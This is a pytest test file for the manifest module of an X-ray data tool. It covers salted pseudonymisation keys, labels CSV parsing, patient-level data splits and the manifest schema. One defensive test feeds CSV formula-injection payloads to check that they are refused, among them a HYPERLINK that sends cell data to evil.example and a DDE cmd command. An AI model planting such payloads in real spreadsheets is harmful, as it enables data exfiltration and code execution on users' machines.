"""Manifest helpers: salt and keys, labels CSV loading and matching, patient-level splits, schema."""

import os
import stat

import numpy as np
import pandas as pd
import pytest

from xraymunit.errors import XraymunitError
from xraymunit.io import manifest
from xraymunit.io.manifest import LabelsError, Pseudonymiser, SaltError


# ------------------------------------------------------------------ salt and keys

def test_salt_is_created_private_and_reused(tmp_path):
    salt, source = manifest.load_or_create_salt(tmp_path / "private")
    path = tmp_path / "private" / "salt.key"
    assert source.endswith("(created)") and len(salt) == 32
    assert stat.S_IMODE(path.stat().st_mode) == 0o600
    again, source2 = manifest.load_or_create_salt(tmp_path / "private")
    assert again == salt and source2 == "private/salt.key"


def test_salt_file_option(tmp_path):
    f = tmp_path / "team.salt"
    salt, source = manifest.load_or_create_salt(tmp_path / "private", f)
    assert source == "salt-file (created)" and stat.S_IMODE(f.stat().st_mode) == 0o600
    assert not (tmp_path / "private" / "salt.key").exists()
    assert manifest.load_or_create_salt(tmp_path / "other", f)[0] == salt
    f.write_text("short")
    with pytest.raises(SaltError, match="at least 16"):
        manifest.load_or_create_salt(tmp_path / "private", f)
    f.write_text("a passphrase that is long enough")
    assert manifest.load_or_create_salt(tmp_path / "private", f)[0] == b"a passphrase that is long enough"


def test_keys_are_salted_namespaced_and_short():
    a, b = Pseudonymiser(b"a" * 32), Pseudonymiser(b"b" * 32)
    k = a.key("patient", "12345")
    assert len(k) == 16 and int(k, 16) >= 0
    assert k == a.key("patient", " 12345 ") and k != b.key("patient", "12345")
    assert k != a.key("study", "12345")
    assert "12345" not in k and a.key("patient", "") is None and a.key("patient", None) is None


# ------------------------------------------------------------------ labels

def write_csv(tmp_path, text, name="labels.csv"):
    path = tmp_path / name
    path.write_text(text)
    return path


def test_labels_by_sop_with_aliases_and_normalised_values(tmp_path):
    csv = write_csv(tmp_path, "SOP Instance UID,Label,Sex,Age,View,Dataset\n"
                              "1.2.3,1,female,058Y,pa,nih\n1.2.4,0,M,70,AP,nih\n1.2.5, Pneumonia ,,,,\n")
    table = manifest.load_labels(csv)
    assert table.primary == "sop"
    hit, source = table.match("any/path", {"sop_uid": "1.2.3"})
    assert (hit.label, source, hit.sex, hit.age, hit.view, hit.source_dataset) == ("abnormal", "csv:sop", "F", 58.0, "PA", "nih")
    assert table.match("x", {"sop_uid": "1.2.4"})[0].label == "normal"
    assert table.match("x", {"sop_uid": "1.2.5"})[0].label == "pneumonia"
    assert table.match("x", {"sop_uid": "9.9"}) == (None, None)
    assert table.used_rows == {1, 2, 3}


def test_labels_by_path_are_normalised(tmp_path):
    csv = write_csv(tmp_path, "path,label\n./normal\\a.png,normal\nabnormal//b.png,abnormal\n")
    table = manifest.load_labels(csv)
    assert table.match("normal/a.png", {})[0].label == "normal"
    assert table.match("abnormal/b.png", {})[1] == "csv:path"


def test_most_specific_key_wins_and_ambiguous_patients_are_not_used(tmp_path):
    csv = write_csv(tmp_path, "SOPInstanceUID,PatientID,label\n1.1,P1,abnormal\n1.2,P1,normal\n1.3,P2,normal\n")
    table = manifest.load_labels(csv)
    assert table.match("f", {"sop_uid": "1.1", "patient_id": "P1"})[0].label == "abnormal"
    assert table.match("f", {"sop_uid": "7.7", "patient_id": "P1"}) == (None, None)  # P1 has both labels
    assert table.match("f", {"sop_uid": "7.7", "patient_id": "P2"})[1] == "csv:patient"


def test_study_and_patient_keys(tmp_path):
    table = manifest.load_labels(write_csv(tmp_path, "StudyInstanceUID,label\n2.1,abnormal\n"))
    assert table.match("f", {"study_uid": "2.1"})[1] == "csv:study"
    table = manifest.load_labels(write_csv(tmp_path, "patient_id,label\nP9,normal\n", "p.csv"))
    assert table.match("f", {"patient_id": "P9"})[1] == "csv:patient"


@pytest.mark.parametrize("text,message", [
    ("SOPInstanceUID,label\n1.1,normal\n1.1,abnormal\n", "rows 1, 2 give different labels"),
    ("SOPInstanceUID,diagnosis\n1.1,normal\n", "no 'label' column"),
    ("label,comment\nnormal,x\n", "no key column"),
])
def test_bad_labels_csv_errors_name_the_problem(tmp_path, text, message):
    with pytest.raises(LabelsError, match=message):
        manifest.load_labels(write_csv(tmp_path, text))


def test_missing_labels_file(tmp_path):
    with pytest.raises(LabelsError, match="not found"):
        manifest.load_labels(tmp_path / "nope.csv")


def test_duplicate_rows_with_the_same_label_are_fine(tmp_path):
    table = manifest.load_labels(write_csv(tmp_path, "SOPInstanceUID,label\n1.1,1\n1.1,abnormal\n"))
    assert table.match("f", {"sop_uid": "1.1"})[0].label == "abnormal"


def test_folder_labels():
    assert manifest.folder_label("Normal/x.png") == "normal"
    assert manifest.folder_label("abnormal/sub/x.dcm") == "abnormal"
    assert manifest.folder_label("other/x.png") is None and manifest.folder_label("x.png") is None


# ------------------------------------------------------------------ splits

def patients(spec):
    """spec: list of (label, source, count) → patient table."""
    rows = []
    for label, source, n in spec:
        rows += [{"patient_key": f"{label}-{source}-{i}", "label": label, "source": source} for i in range(n)]
    return pd.DataFrame(rows)


def counts(split_of, table):
    df = table.assign(split=table["patient_key"].map(split_of))
    return df.groupby(["label", "split"]).size().unstack(fill_value=0)


def test_tiny_cohort_gets_both_labels_in_every_split():
    table = patients([("normal", "a", 3), ("abnormal", "a", 3)])
    split_of = manifest.assign_splits(table, Pseudonymiser(b"s" * 32))
    c = counts(split_of, table)
    assert (c.loc[:, list(manifest.SPLITS)] >= 1).all().all()


def test_many_tiny_sources_still_add_up_to_the_fractions():
    table = patients([("abnormal", f"src{i}", 1) for i in range(20)] + [("normal", "big", 40)])
    split_of = manifest.assign_splits(table, Pseudonymiser(b"s" * 32))
    c = counts(split_of, table)
    assert list(c.loc["abnormal", list(manifest.SPLITS)]) == [14, 3, 3]
    assert list(c.loc["normal", list(manifest.SPLITS)]) == [28, 6, 6]


def test_stratified_by_source_and_deterministic_from_salt():
    table = patients([("normal", "nih", 200), ("normal", "covid", 100), ("abnormal", "nih", 100), ("abnormal", "covid", 60)])
    s1 = manifest.assign_splits(table, Pseudonymiser(b"1" * 32))
    assert s1 == manifest.assign_splits(table.sample(frac=1, random_state=0), Pseudonymiser(b"1" * 32))
    s2 = manifest.assign_splits(table, Pseudonymiser(b"2" * 32))
    assert s1 != s2
    df = table.assign(split=table["patient_key"].map(s1))
    for (label, source), g in df.groupby(["label", "source"]):
        frac = g["split"].value_counts(normalize=True)
        assert abs(frac["train"] - 0.7) < 0.02 and abs(frac["test"] - 0.15) < 0.02, (label, source)


def test_zero_val_fraction_and_bad_fractions():
    table = patients([("normal", "a", 10)])
    split_of = manifest.assign_splits(table, Pseudonymiser(b"s" * 32), (0.8, 0.0, 0.2))
    assert set(split_of.values()) == {"train", "test"}
    for bad in [(0.5, 0.5), (0.7, 0.2, 0.2), (0.0, 0.5, 0.5), (1.2, -0.1, -0.1)]:
        with pytest.raises(XraymunitError, match="split fractions"):
            manifest.check_fractions(bad)


def test_patient_label_priority():
    rows = pd.DataFrame({"patient_key": ["p", "p", "q", "r", "r"],
                         "label": ["normal", "abnormal", None, "normal", "pneumonia"],
                         "source_dataset": ["a", "a", None, "b", "b"]})
    t = manifest.patient_table(rows).set_index("patient_key")
    assert t.loc["p", "label"] == "abnormal" and t.loc["q", "label"] == "unlabelled" and t.loc["r", "label"] == "pneumonia"


# ------------------------------------------------------------------ schema and write

def test_manifest_schema_roundtrip(tmp_path):
    row = manifest.empty_row()
    row.update(image_key="ab" * 8, status="ok", rows=2048, columns=2500, bits_stored=12, age=64.0,
               cache_index=0, split="train", label="normal")
    bad = manifest.empty_row()
    bad.update(image_key="cd" * 8, status="skipped", reason="modality", reason_detail="Modality MR not in CR,DX")
    df = manifest.to_frame([row, bad])
    path = tmp_path / "manifest.parquet"
    manifest.write_manifest(df, path)
    back = pd.read_parquet(path)
    assert list(back.columns) == list(manifest.COLUMN_NAMES)
    assert str(back["rows"].dtype) == "Int64" and back["rows"].isna().tolist() == [False, True]
    assert back["cache_index"].tolist() == [0, -1] and back["cache_index"].dtype == np.int64
    assert back.loc[1, "reason"] == "modality" and pd.isna(back.loc[0, "reason"])
    assert [p for p in os.listdir(tmp_path) if p != "manifest.parquet"] == []  # no temp file left


def test_manifest_columns_are_documented():
    from pathlib import Path

    doc = (Path(__file__).resolve().parents[2] / "xraymunit" / "FORMATS.md").read_text()
    for col in manifest.COLUMN_NAMES:
        assert f"| {col} |" in doc or f"| {col}," in doc or f", {col} |" in doc or f" {col}," in doc, col


@pytest.mark.parametrize("column,value", [
    ("label", '=HYPERLINK("http://evil.example/?x="&A1,"click")'),
    ("label", "=cmd|' /c calc'!a0"),
    ("label", "  @SUM(1+1)"),
    ("source_dataset", "+1+cmd"),
    ("view", "\t=1"),
])
def test_labels_that_a_spreadsheet_would_run_are_refused(tmp_path, column, value):
    df = pd.DataFrame({"SOPInstanceUID": ["1.1", "1.2", "1.3"], "label": ["normal", "abnormal", "normal"],
                       "source_dataset": ["nih"] * 3, "view": ["PA"] * 3})
    df.loc[1, column] = value
    path = tmp_path / "labels.csv"
    df.to_csv(path, index=False)
    with pytest.raises(LabelsError) as err:
        manifest.load_labels(path)
    message = str(err.value)
    assert f"row 2, column '{column}'" in message and "formula" in message
    assert value.strip() not in message and "\n" not in message


def test_numeric_labels_with_a_sign_are_not_formulas(tmp_path):
    table = manifest.load_labels(write_csv(tmp_path, "SOPInstanceUID,label\n1.1,-1\n1.2,1\n1.3,+0.5\n"))
    assert table.index["sop"]["1.1"].label == "-1" and table.index["sop"]["1.3"].label == "+0.5"


def test_keys_and_display_of_non_utf8_names():
    rel = os.fsdecode(b"scans/bad\xff\xfe.dcm")  # how Python names a file whose name is not UTF-8
    pseudo = Pseudonymiser(b"s" * 32)
    assert len(pseudo.key("image", rel)) == 16 and pseudo.key("image", rel) != pseudo.key("image", "scans/bad.dcm")
    assert pseudo.order("split", rel)
    assert manifest.display_path(rel) == "scans/bad\\xff\\xfe.dcm"
    assert manifest.display_path("scans/ok é.dcm") == "scans/ok é.dcm"
